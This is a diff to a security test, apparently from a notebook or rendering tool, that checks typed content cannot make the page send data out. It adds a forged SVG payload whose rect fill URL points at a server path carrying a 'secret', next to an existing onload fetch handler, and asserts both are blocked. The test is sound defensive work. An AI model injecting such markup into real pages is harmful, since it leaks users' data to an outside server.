@@ -194,6 +194,11 @@ def test_nothing_that_is_typed_leaves_the_page(page, engine_site):
         'onload="fetch(1)"/>\'\n'
     )
     assert tab("check", "dense.attend", forged + UNSCALED)["picture"] == ""
+    fetched = forged.replace(
+        'onload="fetch(1)"/>',
+        f'><rect fill="url({engine_site}told?secret#a)"/></svg>',
+    )
+    assert tab("check", "dense.attend", fetched + UNSCALED)["picture"] == ""
     tab("run", "import time; time.sleep(0.2)", {})
     assert asked == []
 
